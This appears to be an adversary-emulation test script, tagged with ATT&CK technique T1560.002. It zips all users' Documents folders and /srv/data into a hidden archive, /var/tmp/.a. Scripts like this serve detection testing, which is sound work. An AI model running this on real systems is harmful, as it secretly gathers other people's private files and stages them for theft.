#!/usr/bin/env python3
# title: Python packs documents
# technique: T1560.002
# needs: python3

import glob, zipfile
with zipfile.ZipFile("/var/tmp/.a", "w", zipfile.ZIP_DEFLATED) as archive:
    for path in glob.glob("/home/*/Documents/*") + glob.glob("/srv/data/*"):
        archive.write(path)
